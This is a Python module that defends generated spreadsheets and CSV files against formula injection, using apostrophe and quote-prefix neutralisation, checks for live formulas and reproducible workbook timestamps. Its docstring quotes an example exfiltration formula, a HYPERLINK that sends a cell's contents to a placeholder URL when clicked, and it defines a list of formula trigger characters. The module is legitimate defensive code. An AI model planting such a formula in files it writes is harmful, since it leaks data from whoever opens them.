"""Spreadsheet outputs safe to open: no live formula from user text, reproducible bytes.

Every workbook or CSV file sroi writes may be opened in Excel or LibreOffice by someone who
did not write its text (a cost description, a source, a programme name). A text cell that
starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return can be taken for a formula
(``=HYPERLINK("http://..."&A1,"click")`` sends data elsewhere when clicked). The rule here:

* in an ``.xlsx`` written cell by cell, such text is stored as a text cell with the
  *quote prefix* flag (:func:`set_text`): the reader sees the text exactly, never a formula;
* in a table written by pandas (``to_excel``, ``to_csv``) such text gets a leading apostrophe
  (:func:`neutralise`, :func:`neutralise_frame`), the usual CSV-injection defence; a workbook
  written by pandas without intended formulas is then checked with :func:`live_formulas`, or
  every formula cell in it turned into text with :func:`formulas_to_text`;
* :func:`make_reproducible` fixes a workbook's core-properties times and zip entry times, so
  the same inputs give the same bytes (``SOURCE_DATE_EPOCH`` when set, else 1980-01-01).
"""

from __future__ import annotations

import datetime as dt
import io
import os
import re
import zipfile
from pathlib import Path
from typing import Any

import pandas as pd

__all__ = [
    "FORMULA_TRIGGERS",
    "is_formula_like",
    "neutralise",
    "neutralise_frame",
    "set_text",
    "live_formulas",
    "formulas_to_text",
    "make_reproducible",
]

#: First characters that make a spreadsheet take text for a formula or a command.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: Any) -> bool:
    """True for text a spreadsheet could take for a formula (starts with a trigger)."""
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def neutralise(value: Any) -> Any:
    """``value`` with a leading apostrophe when it is formula-like text; anything else as is.

    Parameters
    ----------
    value
        A cell value about to be written to CSV or by pandas to a workbook.

    Returns
    -------
    Any
        ``"'" + value`` for formula-like text, else ``value`` unchanged.
    """
    return "'" + value if is_formula_like(value) else value


def neutralise_frame(df: pd.DataFrame) -> pd.DataFrame:
    """Copy of a table with every formula-like text cell and column name neutralised."""
    out = df.copy()
    for c in out.columns:
        if out[c].dtype == object or pd.api.types.is_string_dtype(out[c]):
            out[c] = out[c].map(neutralise)
    out.columns = [neutralise(c) for c in out.columns]
    return out


def set_text(cell: Any, value: Any) -> Any:
    """Write ``value`` into an openpyxl cell; formula-like text is stored as text.

    The cell keeps the text exactly (no visible apostrophe): its type is "string" and its
    style has the quote-prefix flag, so Excel and LibreOffice show it as typed.

    Parameters
    ----------
    cell
        An ``openpyxl`` cell.
    value
        Any cell value.

    Returns
    -------
    cell
        The same cell.
    """
    cell.value = value
    if is_formula_like(value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def live_formulas(path: str | Path) -> list[tuple[str, str, str]]:
    """Every formula cell in a workbook as ``(sheet, cell, formula)``.

    Parameters
    ----------
    path
        An ``.xlsx`` file.
    """
    import openpyxl

    wb = openpyxl.load_workbook(Path(path), data_only=False)
    found = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    found.append((ws.title, cell.coordinate, str(cell.value)))
    return found


def formulas_to_text(path: str | Path) -> Path:
    """Turn every formula cell of a workbook into text (for writers that intend none)."""
    import openpyxl

    p = Path(path)
    wb = openpyxl.load_workbook(p, data_only=False)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    set_text(cell, str(cell.value))
    wb.save(p)
    return p


_CORE_TIME = re.compile(
    r"(<dcterms:(created|modified)[^>]*>)[^<]*(</dcterms:(?:created|modified)>)"
)


def _fixed_time() -> dt.datetime:
    raw = os.environ.get("SOURCE_DATE_EPOCH", "").strip()
    if raw.isdigit():
        return dt.datetime.fromtimestamp(int(raw), dt.UTC)
    return dt.datetime(1980, 1, 1, tzinfo=dt.UTC)


def make_reproducible(path: str | Path) -> Path:
    """Rewrite a workbook with fixed times, so the same content gives the same bytes.

    The core properties ``created``/``modified`` and every zip entry's time are set to
    ``SOURCE_DATE_EPOCH`` when set, else 1980-01-01 00:00 UTC; entries keep their order.

    Parameters
    ----------
    path
        An ``.xlsx`` file, rewritten in place.

    Returns
    -------
    pathlib.Path
        The file.
    """
    p = Path(path)
    when = max(_fixed_time(), dt.datetime(1980, 1, 1, tzinfo=dt.UTC))
    stamp = when.strftime("%Y-%m-%dT%H:%M:%SZ")
    buf = io.BytesIO()
    with zipfile.ZipFile(p) as src, zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "docProps/core.xml":
                text = _CORE_TIME.sub(lambda m: m.group(1) + stamp + m.group(3), data.decode())
                data = text.encode()
            out = zipfile.ZipInfo(info.filename, date_time=when.timetuple()[:6])
            out.compress_type = zipfile.ZIP_DEFLATED
            out.external_attr = info.external_attr
            dst.writestr(out, data)
    p.write_bytes(buf.getvalue())
    return p
